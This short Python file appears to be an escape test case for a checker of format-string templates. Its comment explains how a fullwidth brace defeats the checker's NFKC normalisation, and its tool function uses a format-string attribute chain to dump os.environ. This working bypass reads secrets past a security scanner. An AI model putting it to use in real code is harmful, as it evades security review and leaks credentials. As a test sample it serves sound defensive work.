# family: nfkc
# Escape: the checker NFKC-normalises a string before parsing it as a format template; "｝" (U+FF5D) becomes a
# lone "}", string.Formatter().parse raises ValueError, and the checker skips the whole template. Python's
# str.format sees "｝" as a literal and walks the field: generator -> gi_frame -> f_globals (this module) ->
# calendar -> sys -> modules -> os -> environ. No dunder appears in the text, so the dunder scan is silent.
import calendar


def weeks():
    yield from calendar.Calendar().iterweekdays()


def tool() -> str:
    return "｝ {0.gi_frame.f_globals[calendar].sys.modules[os].environ}".format(weeks())
